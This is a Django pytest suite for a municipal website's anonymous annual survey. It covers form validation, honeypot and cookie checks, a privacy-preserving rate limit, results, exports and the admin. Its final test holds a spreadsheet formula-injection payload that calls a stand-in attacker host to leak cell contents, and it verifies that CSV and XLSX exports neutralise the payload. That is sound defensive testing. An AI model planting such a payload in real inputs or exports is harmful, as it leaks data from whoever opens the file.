"""The annual website survey: the default questionnaire, answering it without an account, validation, the abuse
checks (honeypot, signed cookie, per-client limit) with nothing personal stored, the results, exports and what
the dashboard reads."""

import csv
import hashlib
import io
import zipfile
from datetime import date, datetime, timedelta

import pytest
from django.apps import apps
from django.contrib.auth.models import Group
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from gelt import encuesta as del_comite
from participa import encuesta as servicio
from participa.models import Encuesta, EnvioLimitado, Opcion, Pregunta, Respuesta, RespuestaPregunta
from portal import roles
from tests.portal.factories import crear_usuario

pytestmark = pytest.mark.django_db

IP = "203.0.113.77"
URL = "/participa/encuesta/"


@pytest.fixture
def encuesta():
    return Encuesta.objects.get(titulo="Encuesta anual sobre el portal web")


@pytest.fixture
def client_factory():
    """A new browser each time: no cookie from an earlier answer."""
    return Client


@pytest.fixture
def comite():
    return crear_usuario(grupo=roles.COMITE)


def preguntas(encuesta):
    return list(encuesta.preguntas.prefetch_related("opciones"))


def datos_validos(encuesta, escala="4", **cambios):
    datos = {}
    for p in preguntas(encuesta):
        opciones = [str(o.pk) for o in p.opciones.all()]
        datos[p.nombre_campo] = {
            "escala": escala,
            "si_no": "si",
            "unica": opciones[:1] and opciones[0],
            "multiple": opciones[:2],
            "texto_corto": "Bien",
            "texto_largo": "Publicar los horarios de la UMATA en las veredas.",
        }[p.tipo]
    datos.update(cambios)
    return datos


def de_tipo(encuesta, tipo):
    return encuesta.preguntas.filter(tipo=tipo).order_by("orden").first()


# --- the default questionnaire ------------------------------------------------------------------------------


def test_la_encuesta_por_defecto_abre_todo_el_anio(encuesta):
    anio = timezone.localdate().year
    assert (encuesta.abre, encuesta.cierra) == (date(anio, 1, 1), date(anio, 12, 31))
    assert Encuesta.objects.abierta() == encuesta
    tipos = [p.tipo for p in encuesta.preguntas.all()]
    assert tipos == ["escala", "escala", "escala", "unica", "multiple", "si_no", "texto_largo"]
    assert "Contactar a la alcaldía" in de_tipo(encuesta, "unica").opciones.values_list("texto", flat=True)
    assert not de_tipo(encuesta, "texto_largo").obligatoria
    comite = set(Group.objects.get(name=roles.COMITE).permissions.values_list("codename", flat=True))
    administrador = set(Group.objects.get(name=roles.ADMINISTRADOR).permissions.values_list("codename", flat=True))
    assert {"add_encuesta", "change_pregunta", "view_opcion", "view_respuesta", "view_respuestapregunta"} <= comite
    assert "delete_encuesta" not in comite and "change_respuesta" not in comite
    assert {"delete_encuesta", "delete_pregunta", "delete_opcion", "view_respuesta"} <= administrador


# --- answering ----------------------------------------------------------------------------------------------


def test_flujo_completo_sin_cuenta(client, encuesta):
    html = client.get(URL).content.decode()
    for p in encuesta.preguntas.all():
        assert p.texto in html
    assert html.count("<fieldset") == 6 and html.count("<legend") == 6  # the long text has a label instead
    assert 'name="sitio_web"' in html and 'tabindex="-1"' in html and 'autocomplete="off"' in html
    assert 'aria-hidden="true"' in html and "csrfmiddlewaretoken" in html

    respuesta = client.post(URL, datos_validos(encuesta), REMOTE_ADDR=IP)
    assert respuesta.status_code == 302 and respuesta["Location"] == reverse("encuesta:gracias")
    cookie = respuesta.cookies[f"encuesta_{encuesta.pk}"]
    assert cookie["httponly"] and cookie["max-age"]
    peticion = RequestFactory().get(URL)
    peticion.COOKIES[cookie.key] = cookie.value
    assert servicio.ya_respondio(peticion, encuesta)  # signed: the view reads it back
    peticion.COOKIES[cookie.key] = "1"
    assert not servicio.ya_respondio(peticion, encuesta)
    assert "Gracias por responder" in client.get(respuesta["Location"]).content.decode()

    guardada = Respuesta.objects.get()
    assert guardada.encuesta == encuesta
    valores = {v.pregunta.tipo: v for v in guardada.valores.select_related("pregunta")}
    assert valores["escala"].valor_numero == 4 and valores["si_no"].valor_numero == 1
    assert valores["multiple"].opciones.count() == 2
    assert valores["unica"].opciones.get().texto == "Consultar un trámite"
    assert valores["texto_largo"].texto.startswith("Publicar los horarios")


def test_errores_junto_a_cada_pregunta_y_lo_escrito_se_conserva(client, encuesta):
    escala = de_tipo(encuesta, "escala")
    multiple = de_tipo(encuesta, "multiple")
    si_no = de_tipo(encuesta, "si_no")
    datos = datos_validos(encuesta)
    del datos[escala.nombre_campo], datos[multiple.nombre_campo]
    datos[de_tipo(encuesta, "texto_largo").nombre_campo] = "Que publiquen los horarios"

    respuesta = client.post(URL, datos, REMOTE_ADDR=IP)
    assert respuesta.status_code == 200
    html = respuesta.content.decode()
    assert "<title>Error:" in html
    assert "Revise 2 preguntas antes de enviar" in html
    assert f'href="#id_{escala.nombre_campo}_0"' in html and f'href="#id_{multiple.nombre_campo}_0"' in html
    error = f"id_{escala.nombre_campo}_error"
    assert f'<p class="pregunta__error" id="{error}">' in html
    assert f'aria-describedby="{error} id_{escala.nombre_campo}_ayuda"' in html
    assert "Elija una opción: esta pregunta es obligatoria." in html
    assert "Elija al menos una opción: esta pregunta es obligatoria." in html
    assert "Que publiquen los horarios</textarea>" in html  # what was typed stays
    assert f'name="{si_no.nombre_campo}" value="si" id="id_{si_no.nombre_campo}_0" checked' in html
    assert not Respuesta.objects.exists()
    assert f"encuesta_{encuesta.pk}" not in respuesta.cookies


def test_texto_demasiado_largo(client, encuesta):
    texto = de_tipo(encuesta, "texto_largo")
    respuesta = client.post(URL, datos_validos(encuesta, **{texto.nombre_campo: "a" * 2001}), REMOTE_ADDR=IP)
    assert "Escriba como máximo 2000 caracteres (ahora tiene 2001)." in respuesta.content.decode()
    assert not Respuesta.objects.exists()


def test_el_campo_trampa_lleno_se_rechaza(client, encuesta):
    respuesta = client.post(URL, datos_validos(encuesta, sitio_web="https://spam.example.com"), REMOTE_ADDR=IP)
    assert respuesta.status_code == 400
    html = respuesta.content.decode()
    assert "No registramos su respuesta" in html and "programas automáticos" in html
    assert not Respuesta.objects.exists() and not RespuestaPregunta.objects.exists()
    assert not EnvioLimitado.objects.exists()
    assert f"encuesta_{encuesta.pk}" not in respuesta.cookies


def test_la_cookie_firmada_dice_que_ya_respondio(client, encuesta):
    client.post(URL, datos_validos(encuesta), REMOTE_ADDR=IP)
    html = client.get(URL).content.decode()
    assert "Usted ya respondió esta encuesta" in html and "<form" not in html.split('id="contenido"')[1]
    otra = client.post(URL, datos_validos(encuesta), REMOTE_ADDR="198.51.100.9")
    assert otra.status_code == 409 and "ya respondió" in otra.content.decode()
    assert Respuesta.objects.count() == 1
    # A forged cookie is ignored: the form shows again.
    client.cookies[f"encuesta_{encuesta.pk}"] = "1"
    assert 'name="sitio_web"' in client.get(URL).content.decode()


def test_limite_por_cliente_en_24_horas(client_factory, encuesta):
    for _ in range(3):
        assert client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR=IP).status_code == 302
    texto = de_tipo(encuesta, "texto_largo")
    escrito = "Que publiquen los horarios del puesto de salud de Las Mesas."
    cuarta = client_factory().post(URL, datos_validos(encuesta, **{texto.nombre_campo: escrito}), REMOTE_ADDR=IP)
    assert cuarta.status_code == 429
    html = cuarta.content.decode()
    assert "últimas 24 horas" in html
    # What the person typed is still on the page, ready to send later or from another connection.
    assert escrito in html and 'name="sitio_web"' in html and "Sus respuestas siguen abajo" in html
    assert html.count(" checked") >= 5
    # Whoever opens the survey from that connection now is told before starting.
    aviso = client_factory().get(URL, REMOTE_ADDR=IP).content.decode()
    assert "Esta conexión ya envió sus respuestas de hoy" in aviso and 'name="sitio_web"' in aviso
    assert "ya envió sus respuestas" not in client_factory().get(URL, REMOTE_ADDR="198.51.100.9").content.decode()
    assert client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR="198.51.100.9").status_code == 302
    assert Respuesta.objects.count() == 4


def test_detras_del_proxy_el_limite_es_por_persona_y_no_se_puede_falsificar(client_factory, encuesta, settings):
    """Behind nginx every request comes from 127.0.0.1: the client is the address nginx adds to
    X-Forwarded-For, and whatever the client wrote further left is ignored."""
    settings.VISITAS_PROXIES_DE_CONFIANZA = 1

    def enviar(reenviada):
        return client_factory().post(
            URL, datos_validos(encuesta), REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR=reenviada
        )

    for i in range(3):
        assert enviar(f"10.9.9.{i}, {IP}").status_code == 302  # forged left part changes nothing
    assert enviar(f"10.9.9.99, {IP}").status_code == 429
    assert enviar("198.51.100.9").status_code == 302  # another person behind the same proxy


def test_el_limite_cruza_la_medianoche_y_las_huellas_viejas_se_borran(encuesta, settings):
    settings.ENCUESTA_ENVIOS_POR_CLIENTE = 2
    zona = timezone.get_current_timezone()
    hoy = timezone.localdate()
    if hoy.month == 1 and hoy.day <= 3:
        pytest.skip("la encuesta por defecto abre el 1 de enero")
    datos = datos_validos(encuesta)
    noche = timezone.make_aware(datetime.combine(hoy - timedelta(days=1), datetime.min.time()), zona)
    noche += timedelta(hours=23, minutes=30)
    for _ in range(2):
        servicio.registrar_respuesta(encuesta=encuesta, datos=datos, direccion=IP, ahora=noche)
    with pytest.raises(servicio.EnvioRechazado) as rechazo:
        servicio.registrar_respuesta(encuesta=encuesta, datos=datos, direccion=IP, ahora=noche + timedelta(hours=1))
    assert rechazo.value.codigo == "limite"
    # A day later the window is over, and the traces of two days ago are deleted.
    servicio.registrar_respuesta(encuesta=encuesta, datos=datos, direccion=IP, ahora=noche + timedelta(hours=49))
    assert EnvioLimitado.objects.count() == 1


def test_no_se_guarda_la_ip_en_ninguna_parte(client_factory, encuesta):
    for _ in range(4):  # the fourth is refused by the limit
        client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR=IP, HTTP_X_FORWARDED_FOR=IP)
    assert Respuesta.objects.count() == 3 and EnvioLimitado.objects.count() == 3
    hash_simple = hashlib.sha256(IP.encode()).hexdigest()
    revisadas = 0
    for modelo in apps.get_models():
        for fila in modelo.objects.all():
            for campo in modelo._meta.concrete_fields:
                valor = str(campo.value_from_object(fila))
                assert IP not in valor, f"{modelo.__name__}.{campo.name}"
                assert hash_simple not in valor, f"{modelo.__name__}.{campo.name}"
            revisadas += 1
    assert revisadas > 0
    # The stored trace is a keyed hash that changes with the day.
    huella = EnvioLimitado.objects.first().huella
    assert huella == servicio.huella(IP, timezone.localdate())
    assert huella != servicio.huella(IP, timezone.localdate() - timedelta(days=1))


def test_sin_encuesta_abierta(client, encuesta):
    Encuesta.objects.update(abre=date(2020, 1, 1), cierra=date(2020, 12, 31))
    respuesta = client.get(URL)
    assert respuesta.status_code == 200
    assert "No hay una encuesta abierta en este momento" in respuesta.content.decode()
    assert client.post(URL, datos_validos(encuesta), REMOTE_ADDR=IP).status_code == 200
    assert not Respuesta.objects.exists()


# --- results ------------------------------------------------------------------------------------------------


def responder(encuesta, cantidad, **cambios):
    for _ in range(cantidad):
        servicio.registrar_respuesta(encuesta=encuesta, datos=datos_validos(encuesta, **cambios))


def test_resultados_cuentan_y_promedian(encuesta):
    escala = de_tipo(encuesta, "escala")
    si_no = de_tipo(encuesta, "si_no")
    texto = de_tipo(encuesta, "texto_largo")
    responder(encuesta, 3, **{escala.nombre_campo: "5"})
    responder(encuesta, 1, **{escala.nombre_campo: "2", si_no.nombre_campo: "no", texto.nombre_campo: ""})

    datos = servicio.resultados(encuesta)
    assert datos["total"] == 4
    por_pregunta = {r.pregunta.pk: r for r in datos["preguntas"]}
    r = por_pregunta[escala.pk]
    assert r.respondieron == 4 and str(r.promedio) == "4.3"  # (3×5 + 2) / 4 = 4.25
    assert [f.cantidad for f in r.filas] == [0, 1, 0, 0, 3]
    assert [(f.etiqueta, f.cantidad, str(f.porcentaje)) for f in por_pregunta[si_no.pk].filas] == [
        ("Sí", 3, "75.0"),
        ("No", 1, "25.0"),
    ]
    multiple = por_pregunta[de_tipo(encuesta, "multiple").pk]
    assert [f.cantidad for f in multiple.filas] == [4, 4, 0, 0, 0, 0]
    assert por_pregunta[texto.pk].respondieron == 3 and len(por_pregunta[texto.pk].textos) == 3


def test_resultados_en_consultas_fijas(encuesta, django_assert_num_queries):
    responder(encuesta, 2)
    with django_assert_num_queries(7):
        servicio.resultados(encuesta)
    responder(encuesta, 30)
    with django_assert_num_queries(7):
        servicio.resultados(encuesta)


def test_pagina_de_resultados_del_comite(client, encuesta, comite, django_assert_max_num_queries):
    escala = de_tipo(encuesta, "escala")
    responder(encuesta, 3, **{escala.nombre_campo: "3"})
    responder(encuesta, 1, **{escala.nombre_campo: "4"})
    client.force_login(comite)
    url = reverse("encuesta:resultados", args=[encuesta.pk])
    assert url == f"/gelt/encuestas/{encuesta.pk}/"
    with django_assert_max_num_queries(25):
        html = client.get(url).content.decode()
    assert '<dd class="valor">4</dd>' in html
    assert "Promedio: 3,3 de 5" in html
    assert html.count('<svg class="grafico"') == 6 and html.count("<rect ") >= 25
    assert html.count('<table class="tabla">') >= 6 and "<caption>Respuestas a «" in html
    assert "Publicar los horarios de la UMATA" in html  # open answers listed for the committee
    assert "style=" not in html
    assert "No hay una encuesta de un año anterior" in html


@pytest.mark.parametrize("nombre", ["encuesta:resultados", "encuesta:exportar_csv", "encuesta:exportar_xlsx"])
def test_solo_el_comite_ve_resultados_y_exporta(client, encuesta, nombre):
    url = reverse(nombre, args=[encuesta.pk])
    anonimo = client.get(url)
    assert anonimo.status_code == 302 and reverse("admin:login") in anonimo["Location"]
    client.force_login(crear_usuario(grupo=roles.FUNCIONARIO))
    assert client.get(url).status_code == 403
    client.force_login(crear_usuario(grupo=roles.ADMINISTRADOR))
    assert client.get(url).status_code == 200


def test_exportaciones_una_fila_por_respuesta(client, encuesta, comite):
    responder(encuesta, 5)
    client.force_login(comite)
    contenido = client.get(reverse("encuesta:exportar_csv", args=[encuesta.pk])).content.decode("utf-8-sig")
    filas = list(csv.reader(io.StringIO(contenido), delimiter=";"))
    assert filas[0] == ["Recibida", *encuesta.preguntas.values_list("texto", flat=True)]
    assert len(filas) == 6
    assert filas[1][1] == "4" and filas[1][5] == "Noticias; Trámites y servicios" and filas[1][6] == "Sí"
    libro = load_workbook(io.BytesIO(client.get(reverse("encuesta:exportar_xlsx", args=[encuesta.pk])).content))
    hoja = libro["Respuestas"]
    assert hoja.max_row == 6 and hoja.cell(row=2, column=2).value == 4


def test_resultados_publicos_solo_cuando_se_publican(client, encuesta):
    responder(encuesta, 2)
    url = reverse("encuesta:resultados_publicos")
    assert url == "/participa/encuesta/resultados/"
    assert client.get(url).status_code == 404
    encuesta.resultados_publicados = True
    encuesta.save()
    html = client.get(url).content.decode()
    assert "la respondieron <strong>2 personas</strong>" in html and '<svg class="grafico"' in html
    assert "Publicar los horarios de la UMATA" not in html  # written answers stay with the committee


def test_comparacion_con_el_anio_anterior(encuesta):
    anio = encuesta.abre.year
    anterior = Encuesta.objects.create(
        titulo="Encuesta anterior", abre=date(anio - 1, 3, 1), cierra=date(anio - 1, 6, 30)
    )
    original = de_tipo(encuesta, "escala")
    pregunta = Pregunta.objects.create(encuesta=anterior, texto=original.texto.upper(), tipo="escala", orden=1)
    Pregunta.objects.create(encuesta=anterior, texto="¿Encontró lo que buscaba?", tipo="si_no", orden=2)
    for valor in (2, 3):
        respuesta = Respuesta.objects.create(encuesta=anterior, recibida=timezone.now() - timedelta(days=365))
        RespuestaPregunta.objects.create(respuesta=respuesta, pregunta=pregunta, valor_numero=valor)
    responder(encuesta, 2)

    comparacion = servicio.comparar_con_anterior(encuesta)
    assert comparacion["anterior"] == anterior and comparacion["respuestas_anterior"] == 2
    fila = next(f for f in comparacion["filas"] if f["pregunta"] == original.texto)
    assert (str(fila["actual"]), str(fila["anterior"]), str(fila["diferencia"])) == ("4.0", "2.5", "1.5")
    assert servicio.comparar_con_anterior(anterior) is None


# --- the dashboard, the indicator and the admin -------------------------------------------------------------


def test_estado_del_anio(encuesta):
    anio = timezone.localdate().year
    estado = del_comite.estado_del_anio(anio)
    assert (estado["realizada"], estado["respuestas"], estado["encuesta"]) == (False, 0, encuesta)
    responder(encuesta, 2)
    assert del_comite.estado_del_anio(anio) == {"realizada": True, "respuestas": 2, "encuesta": encuesta}
    vieja = Encuesta.objects.create(titulo="Encuesta 2020", abre=date(2020, 2, 1), cierra=date(2020, 5, 31))
    Respuesta.objects.create(encuesta=vieja, recibida=timezone.make_aware(datetime(2020, 3, 10, 9)))
    assert del_comite.estado_del_anio(2020)["realizada"] is True
    assert del_comite.estado_del_anio(2019) == {"realizada": False, "respuestas": 0, "encuesta": None}


def test_valor_del_indicador_y_autoverificacion(encuesta):
    from gelt.indicadores import periodo

    p = periodo("anual")
    assert del_comite.valor_indicador(p) == 0
    assert del_comite.autoverificacion()[0] == "no_cumple"
    responder(encuesta, 3)
    assert del_comite.valor_indicador(p) == 1
    assert del_comite.detalle_indicador(p)["filas"][0]["celdas"][2] == 3
    assert del_comite.autoverificacion()[0] == "parcial"
    Encuesta.objects.update(resultados_publicados=True)
    assert del_comite.autoverificacion()[0] == "cumple"


def test_administracion_de_la_encuesta(client, encuesta, comite):
    responder(encuesta, 1)
    client.force_login(comite)
    cambio = client.get(reverse("admin:participa_encuesta_change", args=[encuesta.pk])).content.decode()
    assert reverse("encuesta:resultados", args=[encuesta.pk]) in cambio and "Consultar un trámite" in cambio
    unica = de_tipo(encuesta, "unica")
    assert client.get(reverse("admin:participa_pregunta_change", args=[unica.pk])).status_code == 200
    assert client.get(reverse("admin:participa_respuesta_changelist")).status_code == 200
    respuesta = Respuesta.objects.get()
    detalle = client.get(reverse("admin:participa_respuesta_change", args=[respuesta.pk])).content.decode()
    assert "Publicar los horarios" in detalle
    assert client.get(reverse("admin:participa_respuesta_add")).status_code == 403
    # A question with answers cannot be deleted alone; its options belong to it.
    assert Opcion.objects.filter(pregunta=unica).count() == 5


def test_demo_de_encuestas_idempotente(encuesta):
    from participa.encuesta_demo import cargar_encuestas
    from portal.demo import Resultado

    hoy = timezone.localdate()
    if hoy.month == 1 and hoy.day == 1:
        pytest.skip("la encuesta de este año acaba de abrir")
    resultado = Resultado()
    cargar_encuestas(resultado, "x")
    anterior = Encuesta.objects.get(titulo=f"Encuesta anual sobre el portal web {hoy.year - 1}")
    assert anterior.respuestas.count() == 40 and encuesta.respuestas.count() == 25
    assert anterior.resultados_publicados and not encuesta.resultados_publicados
    assert all(r.recibida <= timezone.now() for r in Respuesta.objects.all())
    assert del_comite.estado_del_anio(hoy.year)["realizada"] and del_comite.estado_del_anio(hoy.year - 1)["realizada"]
    comparacion = servicio.comparar_con_anterior(encuesta)
    assert len(comparacion["filas"]) == 4 and all(f["diferencia"] is not None for f in comparacion["filas"])
    assert RespuestaPregunta.objects.exclude(texto="").exists()

    cargar_encuestas(Resultado(), "x")
    assert Respuesta.objects.count() == 65 and Encuesta.objects.count() == 2


def test_participa_invita_a_la_encuesta_abierta(client):
    html = client.get(reverse("portal:participa")).content.decode()
    assert reverse("encuesta:formulario") in html
    assert "Rendición de cuentas" in html  # the norm's 6.x subsections


def test_exportaciones_no_ejecutan_formulas_de_respuestas_anonimas(client, encuesta, comite):
    texto = de_tipo(encuesta, "texto_largo")
    ataque = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    responder(encuesta, 1, **{texto.nombre_campo: ataque})
    client.force_login(comite)
    contenido = client.get(reverse("encuesta:exportar_csv", args=[encuesta.pk])).content.decode("utf-8-sig")
    filas = list(csv.reader(io.StringIO(contenido), delimiter=";"))
    assert filas[1][-1] == "'" + ataque
    xlsx = client.get(reverse("encuesta:exportar_xlsx", args=[encuesta.pk])).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archivo:
        assert "<f>" not in archivo.read("xl/worksheets/sheet1.xml").decode()
    hoja = load_workbook(io.BytesIO(xlsx))["Respuestas"]
    assert hoja.cell(row=2, column=hoja.max_column).value == "'" + ataque
    assert hoja.cell(row=2, column=2).value == 4  # numbers stay numbers
